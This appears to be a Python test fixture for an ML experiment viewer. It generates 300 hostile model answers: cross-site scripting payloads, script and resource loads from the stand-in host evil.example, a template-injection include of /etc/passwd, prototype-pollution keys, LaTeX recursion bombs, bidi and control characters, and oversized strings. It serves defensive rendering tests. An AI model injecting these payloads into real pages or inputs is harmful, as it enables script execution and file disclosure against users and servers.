"""300 answers that try to be more than text, and an experiment that sampled them."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Sequence
from pathlib import Path

from tests.reports.synthetic import CODEC
from tests.viewer.recorded import begin_run, record_evaluation, record_iteration, trajectory
from treetune.rollouts.storage import TOKENS, write_tokens
from treetune.runtime.directory import ExperimentDirectory
from treetune.store.checksums import digest_of, read_record, write_record
from treetune.vocabulary import Segment, TextCodec, Trajectory

KINDS: Sequence[str] = (
    "<script>window.ran = 1</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt\n>window.ran=1</sCrIpT >",
    "<img src=x onerror=window.ran=1>",
    "<img src=http://evil.example/pixel.png>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
    "<iframe src=javascript:window.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>* { display: none }</style>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<body onload=window.ran=1 style='display:none'>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button autofocus onfocus=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<a href=javascript:window.ran=1>a link</a>",
    "</pre></div></main><script>window.ran=1</script>",
    "</textarea></title></style></script><img src=x onerror=window.ran=1>",
    '"><img src=x onerror=window.ran=1>',
    "' onmouseover='window.ran=1",
    '" data-i="0" data-key="a" data-href="http://evil.example/',
    "<template><img src=x onerror=window.ran=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<!--><img src=x onerror=window.ran=1>-->",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &amp;amp; &#0; &#x202e; &notanentity;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "[a link](javascript:window.ran=1) [another](http://evil.example/)",
    "![a picture](http://evil.example/pixel.png)",
    "[ref]: http://evil.example/ 'title'\n\n[ref] ![ref]",
    "<http://evil.example/> http://evil.example/ www.evil.example",
    "```html\n<script>window.ran=1</script>\n```",
    "`<img src=x onerror=window.ran=1>` and ``<b>``",
    "| a | <script>ran=1</script> |\n|---|:--|\n| [x](javascript:window.ran=1) | ![](//evil.example/y) |",
    "> " * 200 + "deep",
    "- " * 200 + "deep",
    "*" * 5000 + "a" + "*" * 5000,
    "[" * 5000 + "]" * 5000,
    "\u202egnp.exe\u202c \u2066\u2067isolated\u2069 \u200f\u200e\u061c",
    "a\u0000b\u0001c\u0008d\u001b[31mred\u001b[0m\u007f\u0085",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad invisible \u2028\u2029 \U000e0041\U000e0042",
    "Z\u0351\u036b\u0343\u036a\u0302" * 50,
    "\r\n\r\n\t\v\f\r",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \ud7ff \ue000 \ufffd \uffff",
    "$\\href{javascript:window.ran=1}{x}$",
    "$\\url{javascript:window.ran=1}$ \\(\\htmlClass{tokens}{x}\\) \\(\\htmlStyle{display:none}{x}\\)",
    "$\\includegraphics{http://evil.example/pixel.png}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\def\\x#1{\\x{#1#1}}\\x{a}$ \\[\\newcommand{\\y}{\\y\\y}\\y\\]",
    "$$\\frac{1}{$$ \\[ \\left( \\] \\( \\begin{matrix} \\)",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "$" + "\\sqrt{" * 200 + "x" + "}" * 200 + "$",
    "\\[" + "\\frac{1}{" * 150 + "1" + "}" * 150 + "\\]",
    "$\\rule{100000em}{100000em}$ $\\kern-9999em x$ $\\raisebox{9999em}{x}$ $\\hspace{-9999em}x$",
    "$\\color{red;display:none}{x}$ $\\textcolor{url(http://evil.example/)}{x}$",
    "$$$$$$$$ $ $ $x \\$ y$ \\(\\( \\) \\[\\[\\] \\boxed{<script>window.ran=1</script>}",
    "__proto__ constructor toString hasOwnProperty",
    '</script><!-- {"__proto__": {"ran": 1}} \\u003cscript\\u003e',
    "a" * 100_000,
    " " * 100_000,
    "\n" * 20_000,
    "<" * 50_000,
    "&" * 50_000,
    "\u202e" * 20_000,
    "😀" * 20_000,
    "$x$" * 5_000,
)  # fmt: skip

COUNT = 300
MEGABYTE = "<b>one line</b> " * 65_536


def texts() -> list[str]:
    """All 300: each kind alone, then in the midst of others, and a megabyte on one line."""
    found = [*KINDS, MEGABYTE]
    short = [kind for kind in KINDS if len(kind) < 2000]
    number = 0
    while len(found) < COUNT:
        one, other = short[number % len(short)], short[(7 * number + 3) % len(short)]
        found.append(f"Step {number}: {one}\n\n**{other}**\n\n#### \\boxed{{{number}}} {one}{other}")
        number += 1
    return found


def hostile_answer(number: int, text: str) -> Trajectory:
    """An answer that says the text in one token, to a problem that asks it, graded with it."""
    made = trajectory(number, 0, "x", correct=bool(number % 2))
    grade = dataclasses.replace(made.grade, extracted=text, message=text)
    problem = dataclasses.replace(
        made.problem, id=f"train/{number}", prompt=text, gold=text, data={"note": text}, domain=text[:50]
    )
    segment = Segment([256 + number, 256 + number], logprobs=[-0.5, -0.1], policy_version=0)
    return dataclasses.replace(
        made, problem=problem, segments=(segment,), text=text, grade=grade, step_ends=(1, 2)
    )


def hostile_run(path: Path, said: Sequence[str] = ()) -> ExperimentDirectory:
    """An experiment of one iteration and one evaluation, with these answers or all 300."""
    said = said or texts()
    run = begin_run(path, planned=1)
    codec = TextCodec(
        encode=CODEC.encode,
        decode=lambda ids: "".join(said[i - 256] if i >= 256 else chr(i) for i in map(int, ids)),
        eos_id=3,
    )
    write_tokens(path / TOKENS, codec, 256 + len(said))
    record_iteration(run, 0, [hostile_answer(number, text) for number, text in enumerate(said)])
    record_evaluation(run, 1)
    lines = [
        {"problem": f"v/{n}", "sample": 0, "prompt": text, "gold": text, "text": text, "reward": 0.0,
         "outcome": "ok", "extracted": text, "finish_reason": "stop", "tokens": 2}
        for n, text in enumerate(said)
    ]  # fmt: skip
    half = "half a character \ud800"
    lines.append(lines[-1] | {"problem": f"v/{len(said)}", "text": half, "extracted": half, "prompt": half})
    place = run.evaluation(1, "validation") / "answers.jsonl"
    place.write_text("".join(json.dumps(line) + "\n" for line in lines))
    summary = place.with_name("summary.json")
    write_record(summary, read_record(summary, "") | {"answers": digest_of(place)})
    return run
